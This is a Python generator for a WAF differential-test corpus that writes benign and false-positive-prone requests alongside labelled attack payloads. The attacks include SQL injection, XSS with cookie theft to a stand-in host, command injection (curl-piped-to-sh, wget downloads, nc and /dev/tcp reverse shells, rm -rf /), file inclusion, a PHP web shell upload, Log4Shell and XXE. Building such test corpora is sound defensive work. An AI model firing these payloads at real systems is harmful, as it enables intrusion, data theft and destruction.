#!/usr/bin/python3
"""Generate tests/waf/corpus.jsonl, the differential test's request corpus.

Each line is one request: name, class, method, uri, headers [[n, v]...],
body. Classes: benign (including false-positive-prone traffic), sqli, xss,
rce, lfi, rfi, php, java, node, protocol, scanner, fixation, multipart,
body. Run from the repository root: /usr/bin/python3 tests/waf/gen_corpus.py
"""
import json
import urllib.parse as up

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
BASE = [["Host", "shop.example.com"], ["User-Agent", UA],
        ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
        ["Accept-Language", "en-US,en;q=0.5"], ["Accept-Encoding", "gzip, deflate"],
        ["Connection", "keep-alive"]]

out = []


def req(name, cls, uri, method="GET", headers=None, body="", extra=None, replace=None):
    h = [list(x) for x in (headers if headers is not None else BASE)]
    if replace:
        h = [[k, replace.get(k, v)] for k, v in h if replace.get(k, v) is not None]
    if extra:
        h += [list(x) for x in extra]
    if body and not any(k.lower() == "content-length" for k, _ in h):
        h.append(["Content-Length", str(len(body.encode("utf-8")))])
    out.append({"name": name, "class": cls, "method": method, "uri": uri,
                "headers": h, "body": body})


def q(d):
    return up.urlencode(d)


def get_arg(name, cls, value, param="q", path="/search"):
    req(name, cls, path + "?" + q({param: value}))


def post_form(name, cls, fields, path="/login"):
    req(name, cls, path, "POST", body=q(fields),
        extra=[["Content-Type", "application/x-www-form-urlencoded"]])


def post_json(name, cls, obj, path="/api/items", raw=None):
    body = raw if raw is not None else json.dumps(obj)
    req(name, cls, path, "POST", body=body, extra=[["Content-Type", "application/json"]])


def multipart(name, cls, parts, boundary="----WebKitFormBoundary7MA4YWxkTrZu0gW",
              ctype=None, raw=None, path="/upload"):
    if raw is None:
        body = ""
        for p in parts:
            body += "--" + boundary + "\r\n"
            body += p + "\r\n"
        body += "--" + boundary + "--\r\n"
    else:
        body = raw
    req(name, cls, path, "POST", body=body,
        extra=[["Content-Type", ctype or ("multipart/form-data; boundary=" + boundary)]])


# ------------------------------------------------------------ benign
req("index", "benign", "/index.html")
req("index-query", "benign", "/index.html?q=hello")
req("root", "benign", "/")
req("static-css", "benign", "/static/css/site.min.css?v=3.2.1")
req("static-js", "benign", "/static/js/app.bundle.js")
req("image", "benign", "/images/logo.png", extra=[["Referer", "https://shop.example.com/"]])
req("favicon", "benign", "/favicon.ico")
req("robots", "benign", "/robots.txt")
req("ten-args", "benign", "/products?" + q({"category": "books", "page": "2", "sort": "price",
    "order": "asc", "limit": "20", "lang": "en", "currency": "EUR", "color": "blue",
    "size": "M", "ref": "homepage"}))
req("head", "benign", "/index.html", "HEAD")
req("options", "benign", "/api/items", "OPTIONS")
req("cookies", "benign", "/account", extra=[["Cookie", "session=4f9c2a7b1e; theme=dark; _ga=GA1.2.1234567890.1600000000; __utma=1.2.3.4"]])
req("utm-cookie-sqlish", "benign", "/account", extra=[["Cookie", "__utmz=1.2.3.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=select union"]])
req("referer", "benign", "/checkout", extra=[["Referer", "https://shop.example.com/cart?item=42&qty=1"]])
req("ajax", "benign", "/api/cart", extra=[["X-Requested-With", "XMLHttpRequest"], ["Origin", "https://shop.example.com"]])
req("auth-bearer", "benign", "/api/me", extra=[["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc"]])
req("if-none-match", "benign", "/index.html", extra=[["If-None-Match", "\"5f3c-1a2b\""], ["Cache-Control", "max-age=0"]])
req("range", "benign", "/video.mp4", extra=[["Range", "bytes=0-1023"]])
get_arg("search-words", "benign", "best running shoes 2024")
get_arg("search-apostrophe", "benign", "O'Reilly Media books")
get_arg("search-dont", "benign", "don't stop me now")
get_arg("search-select-plan", "benign", "select your plan and update billing")
get_arg("search-and-or", "benign", "rock and roll or jazz")
get_arg("search-union-jack", "benign", "union jack flag")
get_arg("search-drop", "benign", "drop shipping from china")
get_arg("search-email", "benign", "john.doe@example.com", param="email", path="/subscribe")
get_arg("search-url", "benign", "https://www.example.org/page?x=1", param="url", path="/redirect")
get_arg("search-math", "benign", "5 + 3 = 8")
get_arg("search-comparison", "benign", "price < 100 and rating > 4")
get_arg("search-hashtag", "benign", "#summer #sale")
get_arg("search-percent", "benign", "100% cotton")
get_arg("search-code-word", "benign", "how to use the where clause")
get_arg("search-semicolon", "benign", "salt; pepper; oil")
get_arg("search-quotes", "benign", "\"exact phrase\" search")
get_arg("search-parens", "benign", "smartphone (unlocked)")
get_arg("search-unicode", "benign", "café crème brûlée 東京")
get_arg("search-long", "benign", "lorem ipsum dolor sit amet " * 20)
get_arg("search-html-bold", "benign", "<b>bold</b> text")
get_arg("search-lt", "benign", "a<b and c>d")
get_arg("search-path-like", "benign", "docs/guide/intro", param="page", path="/help")
get_arg("search-dash", "benign", "t-shirt -- cheap")
get_arg("search-number-list", "benign", "1,2,3,4,5")
get_arg("search-or-number", "benign", "iphone 13 or 14")
get_arg("search-sleep", "benign", "sleep apnea treatment")
get_arg("search-script-word", "benign", "javascript tutorial for beginners")
get_arg("search-alert-word", "benign", "weather alert today")
get_arg("search-etc", "benign", "etc and so on")
get_arg("search-windows", "benign", "windows 11 upgrade")
get_arg("search-php", "benign", "php developer jobs")
get_arg("search-cmd", "benign", "cat food and dog food")
get_arg("search-ping", "benign", "ping pong table")
req("api-get-id", "benign", "/api/items/12345")
req("api-get-uuid", "benign", "/api/orders/0f8fad5b-d9cb-469f-a165-70867728950e")
req("date-param", "benign", "/report?" + q({"from": "2024-01-01", "to": "2024-01-31T23:59:59Z"}))
req("base64-param", "benign", "/verify?" + q({"token": "dGhpcyBpcyBhIHRlc3QgdG9rZW4="}))
req("json-param", "benign", "/api/filter?" + q({"f": '{"price":{"lt":100}}'}))
req("array-params", "benign", "/list?ids[]=1&ids[]=2&ids[]=3")
req("empty-value", "benign", "/list?a=&b=1")
req("no-value", "benign", "/list?flag")
req("encoded-space", "benign", "/files/my%20document.pdf")
req("trailing-slash", "benign", "/blog/2024/01/hello-world/")
post_form("login", "benign", {"username": "alice", "password": "S3cret!pass", "remember": "on"})
post_form("login-apostrophe", "benign", {"username": "o'brien", "password": "p@ss'word"})
post_form("comment", "benign", {"name": "Bob", "comment": "Great product! I'd buy it again. 5/5 stars :)"}, path="/comments")
post_form("comment-html", "benign", {"comment": "I <3 this, <i>really</i>."}, path="/comments")
post_form("address", "benign", {"street": "1 Main St. Apt #4", "city": "Springfield", "zip": "12345"}, path="/address")
post_form("2k-form", "benign", {"f%d" % i: "value number %d with some text" % i for i in range(50)}, path="/profile")
post_form("search-sql-words", "benign", {"q": "Select the best option from the list"}, path="/ask")
post_form("text-or-equals", "benign", {"msg": "a or b = c"}, path="/ask")
post_json("json-item", "benign", {"name": "Widget", "price": 9.99, "tags": ["a", "b"], "stock": {"warehouse": 3, "store": 0}})
post_json("json-4k", "benign", {"items": [{"id": i, "name": "item %d" % i, "desc": "A plain description of item number %d." % i, "price": i * 1.5} for i in range(40)]})
post_json("json-nested", "benign", {"a": {"b": {"c": [1, 2, {"d": "e"}]}}, "empty": "", "t": True, "n": None})
post_json("json-apostrophe", "benign", {"note": "it's fine, don't worry"})
post_json("json-array-top", "benign", [1, "two", {"three": 3}])
req("xml-body", "benign", "/soap", "POST", body='<?xml version="1.0"?><order><id>42</id><item>Widget</item></order>',
    extra=[["Content-Type", "application/xml"]])
req("plain-body", "benign", "/api/log", "POST", body="just some text", extra=[["Content-Type", "text/plain"]])
multipart("upload-text", "benign", ['Content-Disposition: form-data; name="title"\r\n\r\nMy file',
          'Content-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\nhello world\r\nsecond line'])
multipart("upload-image", "benign", ['Content-Disposition: form-data; name="avatar"; filename="me.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n....'])
multipart("multipart-fields", "benign", ['Content-Disposition: form-data; name="a"\r\n\r\n1',
          'Content-Disposition: form-data; name="b"\r\n\r\ntwo words'])

# ------------------------------------------------------------- sqli
sqli = [
    ("union-select", "1 UNION SELECT username, password FROM users"),
    ("union-all-select", "-1 union all select 1,2,3--"),
    ("or-1-1", "1 OR 1=1"),
    ("quote-or", "' OR '1'='1"),
    ("quote-or-comment", "admin' --"),
    ("quote-or-hash", "admin'#"),
    ("and-sleep", "1 AND SLEEP(5)"),
    ("benchmark", "1 AND BENCHMARK(1000000,MD5(1))"),
    ("stacked", "1; DROP TABLE users--"),
    ("order-by", "1 ORDER BY 10--"),
    ("quote-paren", "') or ('a'='a"),
    ("inline-comment", "1/**/UNION/**/SELECT/**/1,2"),
    ("version-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ 1"),
    ("information-schema", "1 union select table_name from information_schema.tables"),
    ("waitfor", "1'; WAITFOR DELAY '0:0:5'--"),
    ("pg-sleep", "1; select pg_sleep(5)"),
    ("hex-encoded", "0x61646d696e' or 1=1"),
    ("extractvalue", "1 and extractvalue(1,concat(0x7e,version()))"),
    ("load-file", "1 union select load_file('/etc/passwd')"),
    ("having", "1' having 1=1--"),
    ("char-concat", "concat(char(65),char(66))"),
    ("boolean-blind", "1' AND '1'='1"),
    ("into-outfile", "1 union select 1 into outfile '/tmp/x'"),
    ("double-quote", "\" or \"\"=\""),
    ("at-at-version", "@@version"),
    ("like-wildcard", "' or username like '%admin%"),
    ("case-when", "1 and (case when 1=1 then 1 else 0 end)=1"),
]
for n, v in sqli:
    get_arg("sqli-" + n, "sqli", v, param="id", path="/item")
post_form("sqli-post", "sqli", {"username": "admin' OR 1=1--", "password": "x"})
post_json("sqli-json", "sqli", {"filter": "1 UNION SELECT password FROM users"})
req("sqli-cookie", "sqli", "/account", extra=[["Cookie", "uid=1' or '1'='1"]])
req("sqli-ua", "sqli", "/", replace={"User-Agent": "Mozilla/5.0' AND SLEEP(5)--"})
req("sqli-referer", "sqli", "/", extra=[["Referer", "http://x/?id=1 union select 1,2"]])
req("sqli-argname", "sqli", "/item?" + up.quote("1 union select 1") + "=1")

# -------------------------------------------------------------- xss
xss = [
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("body-onload", "<body onload=alert('xss')>"),
    ("iframe-js", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("a-href-js", "<a href=\"javascript:alert(1)\">x</a>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)"),
    ("attr-breakout-single", "' onfocus='alert(1)' autofocus='"),
    ("entity-js", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
    ("style-expression", "<div style=\"width:expression(alert(1))\">"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("object-data", "<object data=\"javascript:alert(1)\">"),
    ("document-cookie", "document.cookie"),
    ("js-uri", "javascript:alert(document.domain)"),
    ("case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("double-encoded", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("math-href", "<math><a xlink:href=\"javascript:alert(1)\">x"),
    ("vbscript", "<img src=\"vbscript:msgbox(1)\">"),
]
for n, v in xss:
    get_arg("xss-" + n, "xss", v)
post_form("xss-post", "xss", {"comment": "<script>document.location='http://evil/?c='+document.cookie</script>"}, path="/comments")
post_json("xss-json", "xss", {"bio": "<img src=x onerror=alert(1)>"})
req("xss-referer", "xss", "/", extra=[["Referer", "http://x/<script>alert(1)</script>"]])
req("xss-ua", "xss", "/", replace={"User-Agent": "<script>alert(1)</script>"})
req("xss-cookie", "xss", "/", extra=[["Cookie", "pref=<svg/onload=alert(1)>"]])

# -------------------------------------------------------------- rce
rce = [
    ("semicolon-cat", "; cat /etc/passwd"),
    ("pipe-id", "| id"),
    ("backticks", "`whoami`"),
    ("subshell", "$(curl http://evil/x.sh|sh)"),
    ("and-ls", "&& ls -la /"),
    ("wget", "; wget http://evil.example/shell.sh -O /tmp/s"),
    ("nc-reverse", "; nc -e /bin/sh 10.0.0.1 4444"),
    ("powershell", "powershell -enc SQBFAFgA"),
    ("cmd-exe", "& cmd.exe /c dir"),
    ("ifs", ";cat${IFS}/etc/passwd"),
    ("shellshock", "() { :; }; /bin/bash -c 'id'"),
    ("python-c", "; python -c 'import os;os.system(\"id\")'"),
    ("bash-i", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
    ("newline-cmd", "x\nid"),
]
for n, v in rce:
    get_arg("rce-" + n, "rce", v, param="host", path="/ping")
req("rce-shellshock-ua", "rce", "/cgi-bin/status", replace={"User-Agent": "() { :; }; echo; /bin/cat /etc/passwd"})
post_form("rce-post", "rce", {"cmd": "ls; rm -rf /"}, path="/admin/run")

# --------------------------------------------------------------- lfi / rfi
lfi = [
    ("dotdot-passwd", "../../../../etc/passwd"),
    ("encoded-dotdot", "..%2f..%2f..%2fetc%2fpasswd"),
    ("double-encoded", "%252e%252e%252fetc%252fpasswd"),
    ("win-ini", "..\\..\\..\\windows\\win.ini"),
    ("proc-self", "/proc/self/environ"),
    ("null-byte", "../../etc/passwd%00.jpg"),
    ("etc-shadow", "/etc/shadow"),
    ("dot-htaccess", ".htaccess"),
    ("utf8-overlong", "..%c0%af..%c0%afetc%c0%afpasswd"),
]
for n, v in lfi:
    req("lfi-" + n, "lfi", "/download?file=" + v)
req("lfi-path", "lfi", "/static/../../../etc/passwd")
req("lfi-restricted-file", "lfi", "/.git/config")
req("lfi-env-file", "lfi", "/.env")
rfi = [
    ("http-include", "http://evil.example/shell.txt?"),
    ("ip-include", "http://192.168.1.100/shell.txt"),
    ("ftp-include", "ftp://evil.example/x.php"),
    ("php-input", "php://input"),
    ("php-filter", "php://filter/convert.base64-encode/resource=index.php"),
    ("data-uri", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("question-trailing", "https://evil.example/x?"),
]
for n, v in rfi:
    req("rfi-" + n, "rfi", "/index.php?page=" + up.quote(v, safe=":/"))

# -------------------------------------------------------------- php / java / node
php = [
    ("php-open-tag", "<?php system($_GET['c']); ?>"),
    ("php-eval", "eval(base64_decode('ZWNobyAxOw=='));"),
    ("php-system", "system('id');"),
    ("php-superglobal", "$_SERVER['HTTP_HOST']"),
    ("php-serialized", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'),
    ("php-config", "allow_url_include=1"),
    ("php-passthru", "passthru(\"ls\")"),
    ("php-wrapper-expect", "expect://id"),
]
for n, v in php:
    get_arg(n, "php", v, param="data", path="/index.php")
java = [
    ("java-runtime", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("java-ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
    ("java-class", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("java-serialized", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="),
    ("java-processbuilder", "new java.lang.ProcessBuilder(\"calc\").start()"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
]
for n, v in java:
    get_arg(n, "java", v, param="input", path="/app")
req("java-log4shell-ua", "java", "/", replace={"User-Agent": "${jndi:ldap://evil.example/a}"})
req("java-struts-ct", "java", "/struts/upload.action", "POST", body="x=1",
    extra=[["Content-Type", "%{(#nike='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"]])
node = [
    ("node-proto", "__proto__[isAdmin]=true"),
    ("node-constructor", "constructor.prototype.polluted=1"),
    ("node-child-process", "require('child_process').exec('id')"),
    ("node-fs", "require('fs').readFileSync('/etc/passwd')"),
]
for n, v in node:
    get_arg(n, "node", v, param="x", path="/api/node")
req("node-proto-key", "node", "/api/node?__proto__[admin]=1")
post_json("node-proto-json", "node", {"__proto__": {"admin": True}})

# -------------------------------------------------------------- protocol
req("proto-no-host", "protocol", "/index.html", replace={"Host": None})
req("proto-host-ip", "protocol", "/index.html", replace={"Host": "192.0.2.1"})
req("proto-put-method", "protocol", "/index.html", "PUT", body="data", extra=[["Content-Type", "text/plain"]])
req("proto-delete-method", "protocol", "/api/items/1", "DELETE")
req("proto-trace", "protocol", "/", "TRACE")
req("proto-get-with-body", "protocol", "/index.html", "GET", body="a=1", extra=[["Content-Type", "application/x-www-form-urlencoded"]])
req("proto-bad-content-length", "protocol", "/api", "POST", body="x", extra=[["Content-Type", "text/plain"], ["Content-Length", "abc"]])
req("proto-te-and-cl", "protocol", "/api", "POST", body="x=1", extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "chunked"]])
req("proto-range-many", "protocol", "/file.bin", extra=[["Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"]])
req("proto-bad-range", "protocol", "/file.bin", extra=[["Range", "bytes=10-5"]])
req("proto-unknown-ct", "protocol", "/api", "POST", body="x", extra=[["Content-Type", "application/x-evil"]])
req("proto-bad-charset", "protocol", "/api", "POST", body="x=1", extra=[["Content-Type", "application/x-www-form-urlencoded; charset=utf-7"]])
req("proto-invalid-urlenc", "protocol", "/search?q=%zz%41")
req("proto-null-byte", "protocol", "/search?q=abc%00def")
req("proto-high-bytes", "protocol", "/search?q=%ff%fe%01")
req("proto-restricted-ext", "protocol", "/backup/db.sql")
req("proto-restricted-bak", "protocol", "/index.php.bak")
req("proto-restricted-header", "protocol", "/", extra=[["Proxy", "http://evil"]])
req("proto-backslash-path", "protocol", "/a\\b")
req("proto-http10-no-host", "protocol", "/", replace={"Host": None})
req("proto-via-header", "protocol", "/", extra=[["Content-Encoding", "gzip"]])
req("proto-accept-encoding-long", "protocol", "/", replace={"Accept-Encoding": "gzip" + ", x" * 60})
req("proto-empty-ua", "protocol", "/", replace={"User-Agent": ""})
req("proto-multiple-ct", "protocol", "/api", "POST", body="a=1", extra=[["Content-Type", "application/x-www-form-urlencoded, text/plain"]])
req("proto-url-fragment", "protocol", "/page#frag")
req("proto-utf8-path", "protocol", "/caf%C3%A9")
req("proto-bad-utf8", "protocol", "/search?q=%C0%AF")
req("proto-cookie-dollar", "protocol", "/", extra=[["Cookie", "$Version=1; a=b"]])
req("proto-x-forwarded", "protocol", "/", extra=[["X-Forwarded-For", "10.0.0.1, 10.0.0.2"]])

# -------------------------------------------------------------- scanners
for n, ua in [("nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
              ("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
              ("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
              ("dirbuster", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
              ("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
              ("wpscan", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"),
              ("nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
              ("curl", "curl/7.88.1"),
              ("python-requests", "python-requests/2.31.0"),
              ("googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")]:
    req("scanner-" + n, "scanner", "/", replace={"User-Agent": ua})
req("scanner-acunetix-header", "scanner", "/", extra=[["Acunetix-Product", "WVS/10.0"]])
req("scanner-url", "scanner", "/nessustest")

# -------------------------------------------------------------- session fixation
req("fixation-jsessionid", "fixation", "/login?jsessionid=abc123", extra=[["Referer", "http://evil.example/"]])
get_arg("fixation-setcookie", "fixation", "<script>document.cookie=\"sessionid=1234;path=/\"</script>", param="x")
req("fixation-phpsessid", "fixation", "/?PHPSESSID=deadbeef", extra=[["Referer", "http://other.example/"]])

# -------------------------------------------------------------- multipart edge cases
B = "----b0und4ry"
multipart("mp-lf-lines", "multipart", None, boundary=B,
          raw="--" + B + "\nContent-Disposition: form-data; name=\"a\"\n\n1\n--" + B + "--\n")
multipart("mp-quoted-boundary", "multipart", ['Content-Disposition: form-data; name="a"\r\n\r\n1'],
          boundary=B, ctype='multipart/form-data; boundary="' + B + '"')
multipart("mp-data-before", "multipart", None, boundary=B,
          raw="preamble\r\n--" + B + "\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-data-after", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--" + B + "--\r\nepilogue")
multipart("mp-missing-final", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n")
multipart("mp-no-cd", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Type: text/plain\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-header-folding", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data;\r\n name=\"a\"\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-invalid-quoting", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data; name='a'\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-missing-semicolon", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data name=\"a\"\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-unmatched-boundary", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--" + B + "x\r\n--" + B + "--\r\n")
multipart("mp-php-upload", "multipart", ['Content-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: application/x-php\r\n\r\n<?php system($_GET["c"]); ?>'])
multipart("mp-sqli-field", "multipart", ['Content-Disposition: form-data; name="q"\r\n\r\n1 UNION SELECT password FROM users'])
multipart("mp-xss-field", "multipart", ['Content-Disposition: form-data; name="bio"\r\n\r\n<script>alert(1)</script>'])
multipart("mp-no-boundary", "multipart", None, ctype="multipart/form-data", raw="whatever")
multipart("mp-bad-part-header", "multipart", None, boundary=B,
          raw="--" + B + "\r\nContent-Disposition form-data; name=\"a\"\r\n\r\n1\r\n--" + B + "--\r\n")
multipart("mp-charset-part", "multipart", ['Content-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-'])

# -------------------------------------------------------------- body processors
post_json("json-invalid", "body", None, raw='{"a": 1,')
post_json("json-trailing-garbage", "body", None, raw='{"a":1} x')
req("xml-invalid", "body", "/soap", "POST", body="<a><b></a>", extra=[["Content-Type", "text/xml"]])
req("xml-xxe", "body", "/soap", "POST", body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    extra=[["Content-Type", "application/xml"]])
req("xml-sqli", "body", "/soap", "POST", body="<q><id>1 UNION SELECT password FROM users</id></q>", extra=[["Content-Type", "application/xml"]])
req("xml-xss", "body", "/soap", "POST", body="<q><c>&lt;script&gt;alert(1)&lt;/script&gt;</c></q>", extra=[["Content-Type", "application/xml"]])
post_form("urlenc-invalid", "body", None) if False else req("urlenc-invalid", "body", "/form", "POST", body="a=%zz&b=%4", extra=[["Content-Type", "application/x-www-form-urlencoded"]])
req("urlenc-many", "body", "/form", "POST", body="&".join("k%d=v%d" % (i, i) for i in range(300)), extra=[["Content-Type", "application/x-www-form-urlencoded"]])

# ------------------------------------------------------------ more benign (false-positive-prone)
get_arg("fp-markdown", "benign", "# Title\n\n* item one\n* item two\n\n`code` and **bold**", param="text", path="/preview")
get_arg("fp-code-snippet", "benign", "for (i = 0; i < n; i++) { sum += a[i]; }", param="code", path="/paste")
get_arg("fp-sql-tutorial", "benign", "How do I use GROUP BY with COUNT in SQL?", param="q", path="/forum")
get_arg("fp-phone", "benign", "+1 (555) 123-4567", param="phone", path="/contact")
get_arg("fp-email-plus", "benign", "jane+newsletter@example.org", param="email", path="/subscribe")
get_arg("fp-price-range", "benign", "10-20", param="price", path="/search")
get_arg("fp-time", "benign", "12:30:45", param="t", path="/event")
get_arg("fp-semver", "benign", ">=1.2.3 <2.0.0", param="v", path="/pkg")
get_arg("fp-regex-user", "benign", "^[a-z]+$", param="pattern", path="/validate")
get_arg("fp-windows-path", "benign", "C:\\Users\\Public\\Documents", param="dir", path="/browse")
get_arg("fp-unix-path", "benign", "/home/user/projects/readme.md", param="file", path="/view")
get_arg("fp-ampersand-text", "benign", "Tom & Jerry", param="title", path="/search")
get_arg("fp-hash-color", "benign", "#ff8800", param="color", path="/theme")
get_arg("fp-quote-name", "benign", "D'Angelo", param="last", path="/people")
get_arg("fp-dash-dash", "benign", "--verbose flag usage", param="q", path="/docs")
get_arg("fp-comment-like", "benign", "/* nothing to see */", param="q", path="/docs")
get_arg("fp-html-entities", "benign", "Fish &amp; Chips &copy; 2024", param="q")
get_arg("fp-long-token", "benign", "a1B2c3D4e5F6g7H8i9J0" * 5, param="token", path="/verify")
get_arg("fp-numbers", "benign", "3.14159 2.71828 1.41421", param="q")
get_arg("fp-or-in-name", "benign", "Oregon or Orlando", param="city")
get_arg("fp-exec-word", "benign", "executive summary", param="q")
get_arg("fp-union-station", "benign", "Union Station Washington", param="q")
get_arg("fp-script-word", "benign", "manuscript and transcript", param="q")
get_arg("fp-onload-word", "benign", "download onload online", param="q")
req("fp-ga-cookies", "benign", "/", extra=[["Cookie", "_ga=GA1.1.1234567890.1700000000; _gid=GA1.1.987654321.1700000000; _fbp=fb.1.1700000000000.123456789; cookieconsent_status=dismiss"]])
req("fp-jwt-cookie", "benign", "/", extra=[["Cookie", "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"]])
req("fp-chrome-headers", "benign", "/", headers=[["Host", "shop.example.com"],
    ["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
    ["Accept-Language", "de-DE,de;q=0.9,en;q=0.8"], ["Accept-Encoding", "gzip, deflate, br"],
    ["Sec-Fetch-Dest", "document"], ["Sec-Fetch-Mode", "navigate"], ["Sec-Fetch-Site", "none"],
    ["Sec-Ch-Ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""], ["Upgrade-Insecure-Requests", "1"]])
req("fp-mobile-safari", "benign", "/", replace={"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"})
post_json("fp-json-code", "benign", {"snippet": "if (a < b && c > d) { return x; }", "lang": "c"})
post_json("fp-json-sqlish", "benign", {"query": "select * where rating >= 4", "note": "user typed this"})
post_json("fp-json-html", "benign", {"html": "<p>Hello <b>world</b></p>"})
post_json("fp-json-unicode", "benign", {"name": "Zo\u00eb \u00c5ngstr\u00f6m", "city": "Z\u00fcrich"})
post_json("fp-json-numbers", "benign", {"a": 1e10, "b": -0.5, "c": 12345678901234567890})
post_json("fp-json-deep", "benign", {"l1": {"l2": {"l3": {"l4": {"l5": ["x", {"y": "z"}]}}}}})
post_form("fp-form-address-apos", "benign", {"line1": "O'Connell Street 12", "notes": "Ring twice; leave at door"}, path="/checkout")
post_form("fp-form-wiki", "benign", {"content": "== Heading ==\n[[Link|text]] and {{template}}"}, path="/wiki/edit")
post_form("fp-form-password-symbols", "benign", {"user": "bob", "pass": "P@$$w0rd!#%&*()"})
multipart("fp-mp-csv", "benign", ['Content-Disposition: form-data; name="file"; filename="data.csv"\r\nContent-Type: text/csv\r\n\r\nid,name,price\r\n1,Widget,9.99\r\n2,Gadget,19.99'])
multipart("fp-mp-empty-file", "benign", ['Content-Disposition: form-data; name="file"; filename=""\r\nContent-Type: application/octet-stream\r\n\r\n'])

# ------------------------------------------------------------ more attacks
sqli2 = [
    ("mssql-stacked", "1; EXEC xp_cmdshell('dir')--"),
    ("oracle-union", "' UNION SELECT NULL,banner FROM v$version--"),
    ("pg-cast-error", "1 AND 1=CAST((SELECT version()) AS int)"),
    ("mysql-updatexml", "1 AND updatexml(1,concat(0x7e,(select user())),1)"),
    ("sqlite-version", "1' union select sqlite_version()--"),
    ("blind-substring", "1 AND SUBSTRING(@@version,1,1)='5'"),
    ("time-if", "1 AND IF(1=1,SLEEP(3),0)"),
    ("comment-obfuscated", "1'/**/oR/**/'1'/**/=/**/'1"),
    ("tautology-numbers", "99 or 2>1"),
    ("in-subquery", "1 AND 1 IN (SELECT 1)"),
    ("hex-literal-union", "-1 UNION SELECT 0x61646d696e,2"),
    ("concat-pipe", "' || (select password from users) || '"),
    ("group-by-having", "1' GROUP BY id HAVING 1=1--"),
    ("benchmark-encode", "1 and benchmark(5000000,encode('a','b'))"),
]
for n, v in sqli2:
    get_arg("sqli-" + n, "sqli", v, param="id", path="/item")
xss2 = [
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
